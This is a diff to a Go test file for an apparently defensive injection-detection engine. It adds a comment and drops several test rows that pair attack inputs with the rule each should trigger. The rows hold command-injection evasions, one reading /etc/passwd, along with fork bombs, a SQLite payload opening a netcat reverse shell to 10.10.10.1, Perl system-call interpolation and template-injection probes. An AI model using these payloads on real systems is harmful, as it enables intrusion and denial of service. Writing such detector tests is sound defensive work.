@@ -61,16 +61,15 @@ func runLevelCases(t *testing.T, cases []levelCase) {
 	}
 }
 
+// TestShellEvasions holds the rule each evasion fires and the look-alikes
+// the whole engine passes; the readings' own rows are in
+// shell/evasion/evasion_test.go.
 func TestShellEvasions(t *testing.T) {
 	runLevelCases(t, []levelCase{
 		// command names split by expansions that expand to nothing
 		{"empty backticks", q("x", "pi``ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
-		{"empty subst", q("x", "pi$()ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
-		{"trailing empty subst", q("x", "ping$() 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
-		{"process subst", q("x", "pi<()ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
 		{"special params", q("host", "www.google.com;c$!at /et$!c/pas$!swd"), "*", "*"},
 		{"pid param", cookie("c", "una$$me -a"), "cmdi-evasion", "cmdi-evasion"},
-		{"unset var glued", cookie("c", "uname$u -a"), "cmdi-evasion", "cmdi-evasion"},
 		{"quote pairs", q("cmd", `""p""y""t""h""o""n""3""."""1""0"" ""c""m""d""`), "*", "*"},
 		{"bracket glob", q("cmd", "garb=adduse[r];$garb pizza"), "*", "*"},
 		// look-alikes: prose contractions, SQL-escaped quotes, passwords, paths
@@ -92,7 +91,6 @@ func TestShellVariablesAndFunctions(t *testing.T) {
 		{"query string", body("text", "a=1&b=2&c=$3"), "", ""},
 		// functions that run themselves in a pipeline or the background
 		{"fork bomb", body("cmd", "f(){ f & f; };f"), "cmdi-fork-bomb", "cmdi-fork-bomb"},
-		{"fork bomb dot", body("cmd", ".(){ .|.& };."), "cmdi-fork-bomb", "cmdi-fork-bomb"},
 		{"fork bomb spaced", body("cmd", "; test() { test | test & } test"), "*", "*"},
 		{"js function", body("snippet", "if (user && user.isAdmin) { showPanel(); }"), "", ""},
 		{"js method", body("snippet", "render() { return a || b; }"), "", ""},
@@ -103,7 +101,6 @@ func TestSQLiteAndMailCommands(t *testing.T) {
 	runLevelCases(t, []levelCase{
 		{"sqlite shell", q("foo", ";\n.shell nc 10.10.10.1 6666 -e sh\n"), "*", "*"},
 		{"sqlite system quoted", body("code", "1;.\"system whoami\n"), "cmdi-sqlite-shell", "cmdi-sqlite-shell"},
-		{"sqlite sh abbrev", q("s", "1;.sh whoami"), "cmdi-sqlite-shell", "cmdi-sqlite-shell"},
 		{"sqlite dot command", q("foo", ";\\n.databases"), "", "cmdi-sqlite-shell"},
 		{"sentence dot", body("note", "Done; .NET and .sh files are fine"), "", ""},
 		{"smtp rcpt", q("to", "x\r\nRCPT TO:<postmaster>"), "cmdi-mail-command", "cmdi-mail-command"},
@@ -203,7 +200,6 @@ func TestSSRFDisguises(t *testing.T) {
 func TestCodeShapes(t *testing.T) {
 	runLevelCases(t, []levelCase{
 		{"perl spaced", q("x", "@{    [    system    \"id\"    ]    }"), "perl-interpolation", "perl-interpolation"},
-		{"perl tight", q("x", "@{[system 'id']"), "perl-interpolation", "perl-interpolation"},
 		{"perl email", body("note", "mail me @{team} [soon]"), "", ""},
 		{"jinja constant if", q("x", "{% if True %}49{% endif %}"), "ssti-conditional", "ssti-conditional"},
 		{"erb constant if", q("x", "<%= if 1 %>49<% end %>"), "*", "*"},
